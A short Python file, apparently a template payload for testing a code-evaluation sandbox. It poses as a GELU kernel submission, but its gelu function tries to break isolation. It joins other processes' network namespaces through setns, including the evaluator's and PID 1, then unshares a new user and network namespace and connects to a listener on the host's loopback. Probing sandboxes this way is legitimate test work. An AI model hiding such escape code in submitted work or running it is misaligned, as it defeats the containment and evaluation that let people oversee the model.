# Escape: get the network back by joining another process's network namespace (setns), making a
# new user namespace to regain privileges, then reach a listener on the host's loopback.
import ctypes
import os
import socket

import torch
import triton
import triton.language as tl

TARGETS = __TARGETS__
CLONE_NEWNET, CLONE_NEWUSER = 0x40000000, 0x10000000


@triton.jit
def copy(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(y_ptr + offsets, tl.load(x_ptr + offsets, mask=offsets < n), mask=offsets < n)


def _connect():
    try:
        with socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=1) as s:
            s.sendall(b"escaped")
        return True
    except OSError:
        return False


def gelu(input, approximate="none"):
    out = torch.empty_like(input)
    copy[(triton.cdiv(input.numel(), 1024),)](input, out, input.numel(), BLOCK=1024)
    libc = ctypes.CDLL(None, use_errno=True)
    tried = []
    pids = {p for p in os.listdir("/proc") if p.isdigit()} | {str(TARGETS["evaluator_pid"]), "1"}
    for pid in sorted(pids):
        try:
            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        except OSError:
            continue
        joined = libc.setns(fd, CLONE_NEWNET) == 0
        tried.append(f"{pid}:{'joined' if joined else 'refused'}")
        if joined and _connect():
            raise RuntimeError("connected after joining " + pid)
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET) == 0:
        tried.append("unshared")
    if _connect():
        raise RuntimeError("connected")
    raise RuntimeError("no connection; " + " ".join(tried))
